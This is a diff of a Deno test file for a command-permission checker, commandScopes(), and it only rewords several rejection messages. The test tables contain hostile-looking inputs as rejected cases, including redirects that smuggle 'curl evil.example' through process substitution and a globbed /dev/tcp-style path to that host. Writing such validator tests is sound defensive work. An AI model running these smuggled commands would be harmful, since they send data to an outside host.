@@ -238,7 +238,7 @@ const LINES: readonly (readonly [line: string, scopes: string])[] = [
   ["cd /srv && npm test", "no: /srv is not a folder of the workspace"],
   ["cd /w/sub && npm test", "cd /w/sub + npm test … (/usr/lib/npm/npm-cli.js)"],
   ["cd link && npm test", "no: link is not a folder of the workspace"],
-  ["cd - && npm test", "no: cd has more than a folder"],
+  ["cd - && npm test", "no: cd has other arguments than one folder"],
   ["cd sub && cd sub && npm test", "no: the command changes the folder twice"],
   ["npm test && npm run build", "npm test … (/usr/lib/npm/npm-cli.js) + npm run build … (/usr/lib/npm/npm-cli.js)"],
   ["npm test || echo failed", "npm test … (/usr/lib/npm/npm-cli.js) + echo failed"],
@@ -297,7 +297,7 @@ const LINES: readonly (readonly [line: string, scopes: string])[] = [
   ["npm test !!", "no: the command has !"],
   ["npm test <<EOT", "no: the command has <"],
   ["npm test <(evil)", "no: the command has <"],
-  ["2>&1 npm test", "no: the command redirects before its command"],
+  ["2>&1 npm test", "no: a redirection stands before the command"],
   ["'if' x", "no: a part of the command begins with if"],
   ["'' x", "no: a part of the command begins with an empty word"],
   ["-x", "no: a part of the command begins with -x"],
@@ -349,7 +349,9 @@ Deno.test("commandScopes() takes a list word by word, whatever a shell would mak
   });
   assert.deepEqual(scopesOf(["cd", "sub"]), { never: "cd may run another program" });
   assert.deepEqual(scopesOf(["sh", "-c", "npm test"]), { never: "sh is a shell" });
-  assert.deepEqual(scopesOf(["grep", "x".repeat(300)]), { never: "the command has more than 200 characters" });
+  assert.deepEqual(scopesOf(["grep", "x".repeat(300)]), {
+    never: "the command with the path of its program has more than 200 characters",
+  });
 });
 
 Deno.test("commandScopes() a line that PowerShell reads is asked every time, a list is not", () => {
@@ -510,7 +512,7 @@ const NETWORKED: readonly (readonly [line: string, scopes: string])[] = [
   ['npm view left-pad > "$OUT"', "no: the command has >"],
   ["npm view left-pad > /dev/t*/evil.example/80", "no: the command has >"],
   ["npm view left-pad > >(curl evil.example)", "no: the command has >"],
-  ["> out.txt npm view left-pad", "no: the command redirects before its command"],
+  ["> out.txt npm view left-pad", "no: a redirection stands before the command"],
   ["npm view left-pad && > out.txt", "no: the command line redirects without a command"],
   ["npm view left-pad > ~/out.txt", "no: the command has >"],
   ["npm view left-pad > '~/out.txt'", "no: the command has >"],
